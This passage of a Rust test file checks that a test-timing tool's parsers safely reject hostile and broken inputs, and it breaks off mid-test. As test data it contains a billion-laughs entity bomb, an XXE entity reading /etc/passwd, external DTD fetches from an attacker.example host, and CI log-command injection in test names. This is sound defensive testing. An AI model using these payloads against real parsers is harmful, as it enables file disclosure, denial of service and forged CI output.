//! Hostile and broken inputs through the public API: what an attacker, a crashed job or a buggy reporter can hand
//! the core. Each case states the exact warning or error text it expects AND that the other tests' data survived.
//!
//! * XML: entity declarations (billion laughs, external entities) are refused from the DOCTYPE without expanding
//!   anything; 100,000-deep nesting is an error, read without recursion (checked on a 256 KiB stack).
//! * Times: NaN / inf / -1 / 1e400 / "abc" / "" in every format; numbers where strings belong and the reverse.
//! * Names: non-UTF-8 bytes, control characters, an id of 1 MB, empty files of every kind.
//! * Merging: duplicate ids inside one report (summed) and across the shards of one run (max, never summed).
//! * The store: a future version, a corrupt entry, a run whose shard report is missing.
//! * Scale: 1,000,000 test ids through `api::plan` at file and test granularity.
//!
//! Bugs found by fuzzing or by these cases are pinned by `#[ignore = "bug: …"]` tests at the end; each names the
//! function at fault. Run them with `cargo test --test hostile -- --ignored`.

use std::collections::{BTreeMap, BTreeSet};

use timeshard::api::{self, PlanRequest, RecordRequest, Source};
use timeshard::limits::{MAX_ID_BYTES, MAX_XML_DEPTH};
use timeshard::plan::{Plan, PlanOptions, Workers};
use timeshard::report::{parse, Format, ParseOptions, Report};
use timeshard::store::Store;
use timeshard::{ErrorKind, Granularity, TestKey};

// ---------------------------------------------------------------------------------------------------------------
// helpers

fn read(name: &str, bytes: &[u8]) -> timeshard::Result<Report> {
    parse(name, bytes, &ParseOptions::default())
}

fn read_ok(name: &str, bytes: &[u8]) -> Report {
    read(name, bytes).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// (id, seconds) of every sample, in report order.
fn samples(r: &Report) -> Vec<(String, f64)> {
    r.samples
        .iter()
        .map(|s| (s.key.id.clone(), s.seconds))
        .collect()
}

/// Expected samples: (id, seconds).
type Expected<'a> = Vec<(&'a str, f64)>;

fn pairs(list: &[(&str, f64)]) -> Vec<(String, f64)> {
    list.iter().map(|(id, s)| (id.to_string(), *s)).collect()
}

fn src(name: &str, data: impl Into<Vec<u8>>) -> Source {
    Source {
        name: name.to_string(),
        data: data.into(),
    }
}

fn record(store: Option<&str>, reports: Vec<Source>) -> api::RecordResult {
    api::record(&RecordRequest {
        store: store.map(|s| s.as_bytes().to_vec()),
        reports,
        roots: vec![],
        prune_after_runs: 10,
    })
    .unwrap_or_else(|e| panic!("record: {e}"))
}

/// id → samples of a store written by `api::record`.
fn stored(json: &str) -> BTreeMap<String, Vec<f64>> {
    let (store, warnings) = Store::load(json.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(warnings.is_empty(), "{warnings:?}");
    store
        .iter()
        .map(|t| (t.key.id.clone(), t.samples.to_vec()))
        .collect()
}

fn plan_request(
    tests: Option<Vec<String>>,
    store: Option<&str>,
    timings: Vec<Source>,
    workers: Workers,
    g: Granularity,
) -> PlanRequest {
    PlanRequest {
        tests,
        sizes: vec![],
        timings,
        store: store.map(|s| s.as_bytes().to_vec()),
        roots: vec![],
        options: PlanOptions::new(workers, 30.0, g),
    }
}

fn planned(plan: &Plan) -> Vec<String> {
    let mut all: Vec<String> = plan
        .groups
        .iter()
        .flat_map(|g| g.tests.iter().cloned())
        .collect();
    all.sort();
    all
}

fn has_warning(warnings: &[String], want: &str) -> bool {
    warnings.iter().any(|w| w.contains(want))
}

/// Runs `f` on a thread with a 256 KiB stack: a parser that recursed once per nesting level would overflow it
/// (and abort the test binary) long before 100,000 levels.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(f)
        .expect("spawn")
        .join()
        .expect("the small-stack thread panicked")
}

/// The text of an error that must be a `Report` error; also returns its location.
fn report_error(e: &timeshard::Error) -> (String, String) {
    match e.kind() {
        ErrorKind::Report {
            location, message, ..
        } => (location.clone(), message.clone()),
        other => panic!("expected a report error, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------------------------------------------
// XML: entities and depth

/// The classic billion-laughs document: 10 levels of 10 references, ~1 KB that would expand to 10^9 `lol`s (3 GB).
fn billion_laughs() -> String {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE testsuite [\n<!ENTITY lol0 \"lol\">\n");
    for i in 1..10 {
        let refs: String = (0..10).map(|_| format!("&lol{};", i - 1)).collect();
        doc.push_str(&format!("<!ENTITY lol{i} \"{refs}\">\n"));
    }
    doc.push_str("]>\n<testsuite name=\"s\"><testcase file=\"a.py\" name=\"&lol9;\" time=\"1\"/></testsuite>\n");
    doc
}

#[test]
fn entity_declarations_are_refused_from_the_doctype_without_expanding_anything() {
    // (name, document, line of the DOCTYPE). Every document is small; the error comes from the DOCTYPE itself, so
    // nothing is expanded or fetched: no memory or time proportional to the expansion is needed.
    let cases: Vec<(&str, String, &str)> = vec![
        ("billion laughs", billion_laughs(), "line 2"),
        (
            "external entity (XXE)",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n\
             <testsuite><testcase file=\"a.py\" name=\"&xxe;\" time=\"1\"/></testsuite>"
                .to_string(),
            "line 2",
        ),
        (
            "external parameter entity, lower case",
            "<!doctype testsuite [\n<!entity % dtd SYSTEM \"http://attacker.example/x.dtd\"> %dtd;]>\n<testsuite/>"
                .to_string(),
            "line 1",
        ),
        (
            "quadratic blowup (one big entity used many times)",
            format!(
                "<!DOCTYPE t [<!ENTITY a \"{}\">]>\n<testsuite><testcase name=\"{}\" time=\"1\"/></testsuite>",
                "x".repeat(10_000),
                "&a;".repeat(1000)
            ),
            "line 1",
        ),
    ];
    for (name, doc, line) in cases {
        assert!(doc.len() < 32 * 1024, "{name}: the payload itself is small");
        let err = read("junit.xml", doc.as_bytes()).expect_err(name);
        let (location, message) = report_error(&err);
        assert_eq!(location, line, "{name}: the error points at the DOCTYPE");
        assert_eq!(
            message, "DOCTYPE with entity declarations (<!ENTITY …>) is not allowed: entities are never expanded",
            "{name}"
        );
        assert!(err.to_string().starts_with(&format!(
            "report junit.xml, {line}: DOCTYPE with entity declarations"
        )));
    }
}

#[test]
fn entity_references_without_declarations_are_kept_as_written() {
    // Without a DOCTYPE the reference cannot mean anything: it is kept literally (6 bytes, not 3 GB), with a warning,
    // and the other case is unaffected.
    let doc = b"<testsuite><testcase file=\"a.py\" name=\"&lol9;\" time=\"1\"/>\
                <testcase file=\"b.py\" name=\"t\" time=\"2\"/></testsuite>";
    let r = read_ok("junit.xml", doc);
    assert_eq!(
        samples(&r),
        pairs(&[("a.py::&lol9;", 1.0), ("b.py::t", 2.0)])
    );
    assert_eq!(
        r.warnings,
        ["report junit.xml, line 1, testsuite[1]/testcase[1]: name: unknown entity `&lol9;` kept as written \
          (entities are never expanded)"]
    );
    // A DOCTYPE without declarations (an external DTD by name) is ignored, never fetched.
    let doc = b"<!DOCTYPE testsuite SYSTEM \"http://attacker.example/junit.dtd\">\
                <testsuite><testcase file=\"a.py\" name=\"t\" time=\"1\"/></testsuite>";
    assert_eq!(
        samples(&read_ok("junit.xml", doc)),
        pairs(&[("a.py::t", 1.0)])
    );
}

#[test]
fn deep_nesting_is_an_error_without_recursion() {
    const DEPTH: usize = 100_000;
    // (name, document)
    let cases: Vec<(&str, String)> = vec![
        ("nested suites", format!("{}{}", "<testsuite>".repeat(DEPTH), "</testsuite>".repeat(DEPTH))),
        ("nested suites, never closed", "<testsuite name=\"s\">".repeat(DEPTH)),
        (
            "nested unknown elements inside a case",
            format!(
                "<testsuite><testcase file=\"a.py\" name=\"t\" time=\"1\">{}{}</testcase></testsuite>",
                "<x>".repeat(DEPTH),
                "</x>".repeat(DEPTH)
            ),
        ),
        ("self-closing flood (not nested: fine)", format!("<testsuite>{}</testsuite>", "<x/>".repeat(DEPTH))),
    ];
    for (name, doc) in cases {
        let result = on_small_stack(move || {
            read("junit.xml", doc.as_bytes()).map(|r| (samples(&r), r.warnings))
        });
        if name.starts_with("self-closing") {
            let (got, warnings) = result.unwrap_or_else(|e| panic!("{name}: {e}"));
            assert!(got.is_empty(), "{name}");
            assert_eq!(
                warnings,
                ["report junit.xml: the report has no <testcase> elements"],
                "{name}"
            );
            continue;
        }
        let err = result.expect_err(name);
        assert_eq!(
            report_error(&err).1,
            format!("elements are nested deeper than {MAX_XML_DEPTH} levels"),
            "{name}"
        );
    }
}

#[test]
fn deep_json_is_an_error_without_stack_overflow() {
    const DEPTH: usize = 100_000;
    let cases: Vec<(&str, String)> = vec![
        (
            "deep array",
            format!("{}{}", "[".repeat(DEPTH), "]".repeat(DEPTH)),
        ),
        (
            "deep value in an object",
            format!("{{\"a.py\": {}1{}}}", "[".repeat(DEPTH), "]".repeat(DEPTH)),
        ),
        (
            "deep durations",
            format!(
                "{{\"durations\": {}{}}}",
                "[".repeat(DEPTH),
                "]".repeat(DEPTH)
            ),
        ),
    ];
    for (name, doc) in cases {
        let err = on_small_stack(move || read("d.json", doc.as_bytes()).map(|r| samples(&r)))
            .expect_err(name);
        let (_, message) = report_error(&err);
        assert_eq!(message, "invalid JSON: recursion limit exceeded", "{name}");
    }
    // The same through the store and through api::plan (where it is a warning and the plan goes on).
    // A deep entry is skipped whole (the store reader skips an entry of the wrong shape without building it) and
    // the rest kept; deep samples are a JSON error for the whole store.
    let deep_entry = format!(
        "{{\"format\":\"timeshard-store\",\"version\":1,\"runs\":1,\"tests\":{{\"a.py::t\":{}{},\"b.py::t\":{{\"samples\":[1],\"last_run\":1,\"runs_seen\":1}}}}}}",
        "[".repeat(DEPTH),
        "]".repeat(DEPTH)
    );
    let (tests, warnings) = on_small_stack(move || {
        Store::load(deep_entry.as_bytes())
            .map(|(s, w)| (s.iter().map(|t| t.key.id).collect::<Vec<_>>(), w))
    })
    .expect("a deep entry is skipped");
    assert_eq!(tests, ["b.py::t"]);
    assert_eq!(
        warnings,
        ["timing store: skipped test `a.py::t`: expected an object"]
    );
    let deep_store = format!(
        "{{\"format\":\"timeshard-store\",\"version\":1,\"runs\":1,\"tests\":{{\"a.py::t\":{{\"samples\":{}{}}}}}}}",
        "[".repeat(DEPTH),
        "]".repeat(DEPTH)
    );
    let err = on_small_stack({
        let s = deep_store.clone();
        move || Store::load(s.as_bytes()).map(|(s, _)| s.len())
    })
    .expect_err("deep store");
    assert!(
        err.to_string().contains("recursion limit exceeded"),
        "{err}"
    );
    let plan = on_small_stack(move || {
        let req = plan_request(
            Some(vec!["a.py".into(), "b.py".into()]),
            Some(&deep_store),
            vec![src("deep.json", "[".repeat(DEPTH))],
            Workers::Fixed(2),
            Granularity::File,
        );
        api::plan(&req).map_err(|e| e.to_string())
    })
    .expect("a deep store and timing file are warnings");
    assert_eq!(planned(&plan), ["a.py", "b.py"]);
    assert!(has_warning(&plan.warnings, "timing store: not valid JSON: recursion limit exceeded at line 1 column 204; starting without recorded history"), "{:?}", plan.warnings);
    assert!(has_warning(&plan.warnings, "report deep.json, line 1, column 128: invalid JSON: recursion limit exceeded; timing file ignored"), "{:?}", plan.warnings);
}

// ---------------------------------------------------------------------------------------------------------------
// times

#[test]
fn bad_times_skip_one_entry_with_a_warning_and_keep_the_rest() {
    // (format, raw value, warning). The bad entry is first, a good one follows: the good one must survive.
    let junit = |t: &str| {
        format!("<testsuite><testcase file=\"a.py\" name=\"bad\" time=\"{t}\"/><testcase file=\"b.py\" name=\"good\" time=\"2\"/></testsuite>")
    };
    let log = |t: &str| format!("a.rb:{t}\nb.py::good:2\n");
    let durations = |t: &str| format!("{{\"a.py::bad\": {t}, \"b.py::good\": 2}}");
    let cypress = |t: &str| {
        format!("{{\"durations\":[{{\"spec\":\"a.js\",\"duration\":{t}}},{{\"spec\":\"b.py::good\",\"duration\":2000}}]}}")
    };
    let at_case = "report r, line 1, testsuite[1]/testcase[1]: ";
    let cases: Vec<(String, String)> = vec![
        (junit("NaN"), format!("{at_case}time=\"NaN\" is not a number; case skipped")),
        (junit("inf"), format!("{at_case}time=\"inf\" is infinite; case skipped")),
        (junit("-1"), format!("{at_case}time=\"-1\" is negative; case skipped")),
        (junit("1e400"), format!("{at_case}time=\"1e400\" is infinite; case skipped")),
        (junit("abc"), format!("{at_case}time=\"abc\" is not a number; case skipped")),
        (junit(""), format!("{at_case}time=\"\" is empty; case skipped")),
        (junit("1e7"), format!("{at_case}time=\"1e7\" is larger than 1000000 s; case skipped")),
        (log("nan"), "report r, line 1: `a.rb:nan`: \"nan\" is not a number; line skipped".into()),
        (log("inf"), "report r, line 1: `a.rb:inf`: \"inf\" is infinite; line skipped".into()),
        (log("-1"), "report r, line 1: `a.rb:-1`: \"-1\" is negative; line skipped".into()),
        (log("1e400"), "report r, line 1: `a.rb:1e400`: \"1e400\" is infinite; line skipped".into()),
        (log("abc"), "report r, line 1: `a.rb:abc`: \"abc\" is not a number; line skipped".into()),
        (log(""), "report r, line 1: `a.rb:`: \"\" is empty; line skipped".into()),
        (durations("-1"), "report r, entry \"a.py::bad\": -1 is negative; entry skipped".into()),
        (durations("\"abc\""), "report r, entry \"a.py::bad\": value is a string (\"abc\"), not a number of seconds; entry skipped".into()),
        (durations("\"\""), "report r, entry \"a.py::bad\": value is a string (\"\"), not a number of seconds; entry skipped".into()),
        (durations("null"), "report r, entry \"a.py::bad\": value is null (null), not a number of seconds; entry skipped".into()),
        (cypress("\"abc\""), "report r, durations[0] \"a.js\": duration is a string, not milliseconds; entry skipped".into()),
        (cypress("null"), "report r, durations[0] \"a.js\": duration is null (not timed yet); entry skipped".into()),
    ];
    for (doc, want) in cases {
        let r = read_ok("r", doc.as_bytes());
        assert_eq!(r.warnings, std::slice::from_ref(&want), "{doc}");
        assert_eq!(
            samples(&r),
            pairs(&[("b.py::good", 2.0)]),
            "{doc}: the good entry survives"
        );
    }
}

#[test]
fn numbers_where_strings_belong_and_the_reverse() {
    // (document, samples kept, warnings)
    let cases: Vec<(&str, Expected, Vec<&str>)> = vec![
        (
            r#"{"a.py::t": "1.5", "b.py::t": 2}"#,
            vec![("b.py::t", 2.0)],
            vec![
                r#"report r, entry "a.py::t": value is a string ("1.5"), not a number of seconds; entry skipped"#,
            ],
        ),
        (
            r#"{"durations":[{"spec":5,"duration":100},{"spec":"b.js","duration":2000}]}"#,
            vec![("b.js", 2.0)],
            vec![r#"report r, durations[0]: no "spec" string; entry skipped"#],
        ),
        (
            r#"{"durations":[{"spec":"a.js","duration":"1500"},{"spec":"b.js","duration":2000}]}"#,
            vec![("b.js", 2.0)],
            vec![
                r#"report r, durations[0] "a.js": duration is a string, not milliseconds; entry skipped"#,
            ],
        ),
        (
            r#"[["a.py::t", 1], ["a.py::u", "x"], [5, 2], "zz"]"#,
            vec![("a.py::t", 1.0)],
            vec![
                r#"report r, item 2: expected ["test id", seconds], got ["a.py::u","x"]; item skipped"#,
                r#"report r, item 3: expected ["test id", seconds], got [5,2]; item skipped"#,
                r#"report r, item 4: expected ["test id", seconds], got "zz"; item skipped"#,
            ],
        ),
        (
            r#"{"a.py::t": [1], "b.py::t": {}, "c.py::t": true, "d.py::t": 4}"#,
            vec![("d.py::t", 4.0)],
            vec![
                r#"report r, entry "a.py::t": value is an array ([1]), not a number of seconds; entry skipped"#,
                r#"report r, entry "b.py::t": value is an object ({}), not a number of seconds; entry skipped"#,
                r#"report r, entry "c.py::t": value is a boolean (true), not a number of seconds; entry skipped"#,
            ],
        ),
    ];
    for (doc, want, warnings) in cases {
        let r = read_ok("r", doc.as_bytes());
        assert_eq!(samples(&r), pairs(&want), "{doc}");
        assert_eq!(r.warnings, warnings, "{doc}");
    }
    // A store whose numbers are strings: the entry or the whole store, as documented.
    let store_cases: Vec<(&str, Result<usize, &str>)> = vec![
        (
            r#"{"format":"timeshard-store","version":"1","runs":2,"tests":{}}"#,
            Err("timing store: `version` is missing or not a whole number"),
        ),
        (
            r#"{"format":"timeshard-store","version":1,"runs":"2","tests":{}}"#,
            Err("timing store: `runs` is not a whole number: \"2\""),
        ),
        (
            r#"{"format":"timeshard-store","version":1,"runs":2,"tests":{"a.py::t":{"samples":["1"],"last_run":1,"runs_seen":1},"b.py::t":{"samples":[1],"last_run":"2","runs_seen":1},"c.py::t":{"samples":[3],"last_run":2,"runs_seen":1}}}"#,
            Ok(1),
        ),
    ];
    for (doc, want) in store_cases {
        match (Store::load(doc.as_bytes()), want) {
            (Ok((s, w)), Ok(n)) => {
                assert_eq!(s.len(), n, "{doc}");
                assert_eq!(
                    w,
                    [
                        "timing store: skipped test `a.py::t`: sample \"1\" is not a number ≥ 0",
                        "timing store: skipped test `b.py::t`: `last_run` is not a whole number",
                    ]
                );
            }
            (Err(e), Err(msg)) => assert_eq!(e.to_string(), msg),
            (got, want) => panic!("{doc}: got {got:?}, want {want:?}"),
        }
    }
}

// ---------------------------------------------------------------------------------------------------------------
// names and empty files

#[test]
fn non_utf8_bytes_in_names_become_replacement_characters() {
    let cases: Vec<(&str, &[u8], Expected)> = vec![
        (
            "r.xml",
            b"<testsuite><testcase file=\"a\xff.py\" name=\"t\xfe\" time=\"1\"/><testcase file=\"b.py\" name=\"good\" time=\"2\"/></testsuite>",
            vec![("a\u{fffd}.py::t\u{fffd}", 1.0), ("b.py::good", 2.0)],
        ),
        ("r.json", b"{\"a\xff.py::t\": 1, \"b.py::good\": 2}", vec![("a\u{fffd}.py::t", 1.0), ("b.py::good", 2.0)]),
        ("r.log", b"a\xff.rb:1\nb.rb:2\n", vec![("a\u{fffd}.rb", 1.0), ("b.rb", 2.0)]),
    ];
    for (name, doc, want) in cases {
        let r = read_ok(name, doc);
        assert_eq!(samples(&r), pairs(&want), "{name}");
        assert_eq!(
            r.warnings,
            [format!(
                "report {name}, line 1: bytes that are not valid UTF-8 were replaced by U+FFFD (names containing them may not match)"
            )]
        );
    }
}

#[test]
fn control_characters_in_ids_cannot_forge_log_lines() {
    // A test name with a newline followed by a workflow command: the id keeps no control character.
    let doc = "<testsuite><testcase file=\"a.py\" name=\"t&#10;::error::pwned\" time=\"1\"/>\
               <testcase file=\"b.py\" name=\"good\" time=\"2\"/></testsuite>";
    let r = read_ok("r.xml", doc.as_bytes());
    assert_eq!(
        samples(&r),
        pairs(&[("a.py::t\u{fffd}::error::pwned", 1.0), ("b.py::good", 2.0)])
    );
    assert_eq!(
        r.warnings,
        ["report r.xml, line 1, testsuite[1]/testcase[1]: control characters in test id replaced by U+FFFD: \
          a.py::t\u{fffd}::error::pwned"]
    );
    for w in &r.warnings {
        assert!(!w.chars().any(|c| c.is_control()), "{w:?}");
    }
    // JSON escapes and raw log bytes.
    let r = read_ok(
        "r.json",
        br#"{"a.py::t\r\n::warning::x": 1, "b.py::good": 2}"#,
    );
    assert_eq!(
        samples(&r),
        pairs(&[
            ("a.py::t\u{fffd}\u{fffd}::warning::x", 1.0),
            ("b.py::good", 2.0)
        ])
    );
    let r = read_ok("r.log", b"a\x1b[31m.rb:1\nb.rb:2\n");
    assert_eq!(
        samples(&r),
        pairs(&[("a\u{fffd}[31m.rb", 1.0), ("b.rb", 2.0)])
    );
}

#[test]
fn empty_files_of_every_kind() {
    let accepted = "accepted formats: JUnit XML, pytest-split/Knapsack JSON ({\"id\": seconds, …}), cypress-split JSON \
                    ({\"durations\": [{\"spec\": …, \"duration\": ms}]}), parallel_tests runtime log (`path:seconds` lines)";
    let empty_error = format!("report e: the file is empty; {accepted}");
    // (bytes, Ok(warnings) with no samples, or Err(message))
    type Outcome = Result<Vec<String>, String>;
    let cases: Vec<(&[u8], Outcome)> = vec![
        (b"", Err(empty_error.clone())),
        (b"  \n\t\r\n", Err(empty_error.clone())),
        (b"\xEF\xBB\xBF", Err(empty_error.clone())),
        (b"\xFF\xFE", Err(empty_error.clone())),
        (b"\xFE\xFF", Err(empty_error.clone())),
        (
            b"<testsuites/>",
            Ok(vec![
                "report e: the report has no <testcase> elements".into()
            ]),
        ),
        (
            b"<testsuite></testsuite>",
            Ok(vec![
                "report e: the report has no <testcase> elements".into()
            ]),
        ),
        (
            b"<?xml version=\"1.0\"?>",
            Err(format!(
                "report e: not a timing file: no <testsuites> or <testsuite> element; {accepted}"
            )),
        ),
        (b"{}", Ok(vec!["report e: the file has no entries".into()])),
        (
            b"[]",
            Err(format!(
                "report e: not a timing file: JSON array is empty; {accepted}"
            )),
        ),
        (b"{\"durations\":[]}", Ok(vec![])),
    ];
    for (bytes, want) in cases {
        let got = read("e", bytes).map(|r| {
            assert!(r.samples.is_empty());
            r.warnings
        });
        assert_eq!(
            got.map_err(|e| e.to_string()),
            want,
            "{:?}",
            String::from_utf8_lossy(bytes)
        );
    }
    // An empty store is unreadable (a warning in the API, which starts empty); an empty report in a run records
    // nothing and changes nothing.
    assert_eq!(
        Store::load(b"").map(|_| ()).unwrap_err().to_string(),
        "timing store: not valid JSON: EOF while parsing a value at line 1 column 0"
    );
    let first = record(None, vec![src("a.json", r#"{"a.py::t": 1}"#)]);
    let again = record(
        Some(&first.store),
        vec![src("empty.xml", ""), src("blank.json", "  ")],
    );
    assert_eq!(
        again.store, first.store,
        "a run with only empty reports leaves the store as it was"
    );
    assert_eq!(again.summary.runs, 1);
    assert!(
        has_warning(
            &again.summary.warnings,
            &format!(
                "{}; report ignored",
                empty_error.replace("report e", "report empty.xml")
            )
        ),
        "{:?}",
        again.summary.warnings
    );
    assert!(has_warning(
        &again.summary.warnings,
        "no test durations in this run's reports: nothing recorded, the store is unchanged"
    ));
}

#[test]
fn a_one_megabyte_id_is_kept_bounded_and_stable() {
    let long_name = "x".repeat(1 << 20);
    let other_long = format!("{}y", "x".repeat(1 << 20));
    let doc = format!(
        "<testsuite><testcase file=\"a.py\" name=\"{long_name}\" time=\"1\"/><testcase file=\"a.py\" name=\"{other_long}\" \
         time=\"2\"/><testcase file=\"b.py\" name=\"good\" time=\"3\"/></testsuite>"
    );
    let r = read_ok("big.xml", doc.as_bytes());
    let got = samples(&r);
    assert_eq!(
        got.len(),
        3,
        "two long ids stay distinct, the short one survives"
    );
    for (id, _) in &got[..2] {
        assert!(id.len() <= MAX_ID_BYTES, "{} bytes", id.len());
        assert!(id.starts_with("a.py::xxxx"));
        assert!(id.contains("…#"), "shortened ids end in a hash");
    }
    assert_ne!(got[0].0, got[1].0);
    assert_eq!(got[2], ("b.py::good".to_string(), 3.0));
    assert_eq!(
        samples(&read_ok("big.xml", doc.as_bytes())),
        got,
        "the shortened id is the same every run"
    );
    let prefix = format!("report big.xml, line 1, testsuite[1]/testcase[1]: test id of {} bytes is longer than the limit of {MAX_ID_BYTES} bytes; kept as its first ", (1 << 20) + 6);
    assert!(r.warnings[0].starts_with(&prefix), "{:?}", r.warnings[0]);
    assert!(
        r.warnings.iter().all(|w| w.len() < 1024),
        "warnings quote a bounded part of the id"
    );

    // Through the store: the long ids are recorded under their short form and read back.
    let rec = record(None, vec![src("big.xml", doc.clone())]);
    let st = stored(&rec.store);
    assert_eq!(st.len(), 3);
    assert_eq!(st.get(&got[0].0), Some(&vec![1.0]));

    // A 1 MB *file* name cannot keep `file::` as its prefix within the limit: that entry is skipped, nothing else.
    let doc = format!(
        "<testsuite><testcase file=\"{long_name}.py\" name=\"t\" time=\"1\"/><testcase file=\"b.py\" name=\"good\" time=\"3\"/></testsuite>"
    );
    let r = read_ok("bigfile.xml", doc.as_bytes());
    assert_eq!(samples(&r), pairs(&[("b.py::good", 3.0)]));
    assert!(
        r.warnings[0].contains(&format!("test file name of {} bytes is longer than the limit of {MAX_ID_BYTES} bytes; entry skipped", (1 << 20) + 3)),
        "{:?}",
        r.warnings[0]
    );
}

// ---------------------------------------------------------------------------------------------------------------
// duplicates

#[test]
fn duplicate_ids_within_one_report_are_summed() {
    let cases: Vec<(&str, &str, Expected)> = vec![
        (
            "r.xml",
            "<testsuite><testcase file=\"a.py\" name=\"t\" time=\"1\"/><testcase file=\"b.py\" name=\"u\" time=\"4\"/>\
             <testcase file=\"a.py\" name=\"t\" time=\"2.5\"/></testsuite>",
            vec![("a.py::t", 3.5), ("b.py::u", 4.0)],
        ),
        ("r.json", r#"{"a.py::t": 1, "b.py::u": 4, "a.py::t": 2.5}"#, vec![("a.py::t", 3.5), ("b.py::u", 4.0)]),
        ("r.log", "a.rb:1\nb.rb:4\n./a.rb:2.5\n", vec![("a.rb", 3.5), ("b.rb", 4.0)]),
        (
            "t.json",
            r#"{"durations":[{"spec":"a.js","duration":1000},{"spec":"b.js","duration":4000},{"spec":"a.js","duration":2500}]}"#,
            vec![("a.js", 3.5), ("b.js", 4.0)],
        ),
    ];
    for (name, doc, want) in cases {
        let r = read_ok(name, doc.as_bytes());
        assert_eq!(samples(&r), pairs(&want), "{name}");
        assert!(
            r.warnings.is_empty() || r.format == Format::JUnit,
            "{name}: {:?}",
            r.warnings
        );
    }
}

#[test]
fn the_same_test_in_two_shards_of_one_run_takes_the_max_never_the_sum() {
    let shard1 = "<testsuite><testcase file=\"a.py\" name=\"t\" time=\"5\"/><testcase file=\"b.py\" name=\"u\" time=\"1\"/></testsuite>";
    let shard2 = "<testsuite><testcase file=\"a.py\" name=\"t\" time=\"7\"/><testcase file=\"c.py\" name=\"v\" time=\"2\"/></testsuite>";
    let r = record(
        None,
        vec![src("junit-1.xml", shard1), src("junit-2.xml", shard2)],
    );
    let st = stored(&r.store);
    assert_eq!(
        st.get("a.py::t"),
        Some(&vec![7.0]),
        "max of 5 and 7, one sample"
    );
    assert_eq!(st.get("b.py::u"), Some(&vec![1.0]));
    assert_eq!(st.get("c.py::v"), Some(&vec![2.0]));
    assert_eq!(
        (r.summary.runs, r.summary.recorded, r.summary.new_tests),
        (1, 3, 3)
    );
    let (store, _) = Store::load(r.store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let a = store
        .iter()
        .find(|t| t.key.id == "a.py::t")
        .expect("a.py::t");
    assert_eq!((a.runs_seen, a.last_run), (1, 1), "one run, counted once");
    // The same shard uploaded twice (a retried job) does not double anything either.
    let r = record(
        None,
        vec![src("junit-1.xml", shard1), src("junit-1 (1).xml", shard1)],
    );
    assert_eq!(stored(&r.store).get("a.py::t"), Some(&vec![5.0]));
}

// ---------------------------------------------------------------------------------------------------------------
// the store

#[test]
fn a_store_from_the_future_is_an_error_and_the_plan_goes_on_without_it() {
    let future = r#"{"format":"timeshard-store","version":999,"runs":1,"tests":{"a.py::t":{"samples":[1],"last_run":1,"runs_seen":1}}}"#;
    let err = Store::load(future.as_bytes()).map(|_| ()).unwrap_err();
    assert_eq!(
        err.to_string(),
        "timing store: format version 999 is newer than this build (1); update timeshard to use this store \
         (starting from an empty store)"
    );
    let req = plan_request(
        Some(vec!["a.py".into(), "b.py".into()]),
        Some(future),
        vec![],
        Workers::Fixed(2),
        Granularity::File,
    );
    let plan = api::plan(&req).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(planned(&plan), ["a.py", "b.py"]);
    assert!(
        has_warning(
            &plan.warnings,
            "format version 999 is newer than this build (1)"
        ),
        "{:?}",
        plan.warnings
    );
    assert_eq!(plan.estimated_tests, 2);
}

#[test]
fn a_corrupt_store_entry_is_skipped_and_the_others_kept() {
    let store = r#"{"format":"timeshard-store","version":1,"runs":3,"tests":{
"a.py::t":{"samples":[1.5,2.5],"last_run":3,"runs_seen":2},
"b.py::t":{"samples":[-1],"last_run":3,"runs_seen":1},
"c.py::t":{"samples":[],"last_run":3,"runs_seen":1},
"d.py::t":{"samples":[1],"last_run":9,"runs_seen":1},
"e.py::t":{"file":"x.py","samples":[1],"last_run":3,"runs_seen":1},
"f.py::t":"fast",
"g.py::t":{"samples":[4],"last_run":2,"runs_seen":2}
}}"#;
    let (s, warnings) = Store::load(store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let ids: Vec<String> = s.iter().map(|t| t.key.id.clone()).collect();
    assert_eq!(ids, ["a.py::t", "g.py::t"]);
    assert_eq!(
        warnings,
        [
            "timing store: skipped test `b.py::t`: sample -1 is not a number ≥ 0",
            "timing store: skipped test `c.py::t`: `samples` is empty",
            "timing store: skipped test `d.py::t`: `last_run` 9 is not in 1..=3",
            "timing store: skipped test `e.py::t`: `file` `x.py` is not a prefix of the id",
            "timing store: skipped test `f.py::t`: expected an object",
        ]
    );
    // Recording into it keeps the good entries and the new run.
    let r = record(Some(store), vec![src("r.json", r#"{"h.py::t": 3}"#)]);
    let st = stored(&r.store);
    assert_eq!(
        st.keys().collect::<Vec<_>>(),
        ["a.py::t", "g.py::t", "h.py::t"]
    );
    assert_eq!(st.get("a.py::t"), Some(&vec![1.5, 2.5]));
}

#[test]
fn a_run_with_a_missing_shard_report_loses_nothing() {
    let shard_a = r#"{"a.py::t1": 10, "a.py::t2": 5}"#;
    let shard_b = r#"{"b.py::t1": 8, "c.py::t1": 7}"#;
    let run1 = record(
        None,
        vec![src("shard-1.json", shard_a), src("shard-2.json", shard_b)],
    );
    // Run 2: shard 2's job crashed — its report is cut off mid-file, or missing entirely.
    for reports in [
        vec![
            src("shard-1.json", r#"{"a.py::t1": 12, "a.py::t2": 5}"#),
            src("shard-2.json", r#"{"b.py::t1": 8, "c.py"#),
        ],
        vec![src("shard-1.json", r#"{"a.py::t1": 12, "a.py::t2": 5}"#)],
    ] {
        let run2 = record(Some(&run1.store), reports);
        let st = stored(&run2.store);
        assert_eq!(st.get("a.py::t1"), Some(&vec![10.0, 12.0]));
        assert_eq!(
            st.get("b.py::t1"),
            Some(&vec![8.0]),
            "shard 2's tests keep their timings"
        );
        assert_eq!(st.get("c.py::t1"), Some(&vec![7.0]));
        assert_eq!(run2.summary.missing_tests, ["b.py::t1", "c.py::t1"]);
        assert_eq!(
            (
                run2.summary.runs,
                run2.summary.missing_count,
                run2.summary.pruned_tests
            ),
            (2, 2, 0)
        );
        // The next plan still knows every test's time.
        let req = plan_request(
            Some(
                ["a.py::t1", "a.py::t2", "b.py::t1", "c.py::t1"]
                    .map(String::from)
                    .to_vec(),
            ),
            Some(&run2.store),
